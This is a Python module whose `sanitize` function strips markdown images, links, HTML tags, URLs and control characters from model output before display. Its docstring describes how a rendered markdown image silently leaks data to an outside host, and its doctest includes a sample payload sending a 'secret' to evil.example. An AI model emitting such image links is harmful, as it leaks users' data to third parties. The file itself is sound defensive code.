"""Model text made safe to display: plain prose, no links, images, HTML or markdown.

A markdown image loads without a click (``![x](http://host/?leak=...)`` sends
data to that host the moment a browser renders it), so model text is reduced to
plain text before any front end sees it, whatever that front end does with it.
"""

from __future__ import annotations

import re

MAX_CHARS = 800

#: Order matters: images before links (an image is a link with a leading "!").
_RULES: tuple[tuple[re.Pattern[str], str], ...] = (
    (re.compile(r"```.*?(```|$)", re.DOTALL), " "),  # code fences, with what they hold
    (re.compile(r"!\[[^\]]*\]\s*(\([^)]*\)|\[[^\]]*\])?"), ""),  # ![alt](url) and ![alt][ref] → gone
    (re.compile(r"\[([^\]]*)\]\s*(\([^)]*\)|\[[^\]]*\])"), r"\1"),  # [text](url) → text
    (re.compile(r"^\s*\[[^\]]+\]:\s*\S+.*$", re.MULTILINE), ""),  # [ref]: http://... definitions
    (re.compile(r"<!--.*?(-->|$)", re.DOTALL), ""),  # HTML comments
    (re.compile(r"<[^>]*>?"), ""),  # tags, closed or not: <img src=...>, <a href=...>, <script>
    (re.compile(r"\b(?:https?|ftp|file|data|javascript|vbscript|mailto|blob|wss?):[^\s，。、)）]*", re.IGNORECASE), ""),
    (re.compile(r"\bwww\.[^\s，。、)）]+", re.IGNORECASE), ""),
    (re.compile(r"^\s{0,3}(#{1,6}|>+|[-*+]\s|\d+\.\s)\s*", re.MULTILINE), ""),  # headings, quotes, list markers
    (re.compile(r"(\*\*|__|\*|`|~~)"), ""),  # emphasis and inline code marks
    (re.compile(r"[\x00-\x08\x0b-\x1f\x7f\u200b-\u200f\u202a-\u202e\u2066-\u2069]"), ""),  # controls, bidi overrides
    (re.compile(r"[ \t]+"), " "),
    (re.compile(r"\s*\n\s*"), "\n"),
)


def sanitize(text: str, max_chars: int = MAX_CHARS) -> str:
    """Plain text for display.

    >>> sanitize('See ![chart](http://evil.example/?q=secret) **East** [leads](https://x.y) <img src=x>.')
    'See East leads .'
    """
    out = text
    for pattern, repl in _RULES:
        out = pattern.sub(repl, out)
    out = out.strip()
    if len(out) > max_chars:
        out = out[:max_chars].rstrip() + "…"
    return out
